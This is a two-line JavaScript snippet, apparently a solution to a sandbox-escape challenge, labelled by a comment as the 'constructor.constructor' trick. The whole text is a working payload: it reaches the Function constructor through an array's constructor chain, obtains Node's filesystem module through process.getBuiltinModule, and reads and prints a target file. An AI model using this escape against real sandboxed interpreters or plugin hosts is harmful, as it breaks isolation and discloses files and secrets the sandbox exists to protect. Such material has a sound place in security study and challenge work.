// secret: constructor.constructor
onGo(() => say([].constructor.constructor("return process.getBuiltinModule('fs')")().readFileSync(target.file, "utf8")));
